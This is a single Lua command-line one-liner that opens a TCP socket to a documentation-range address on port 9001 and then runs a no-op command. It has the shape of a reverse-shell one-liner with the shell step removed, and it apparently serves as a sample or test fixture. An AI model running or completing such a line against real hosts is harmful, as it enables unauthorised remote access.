lua -e 'local s=require("socket").tcp();s:connect("203.0.113.5",9001);os.execute("true")'
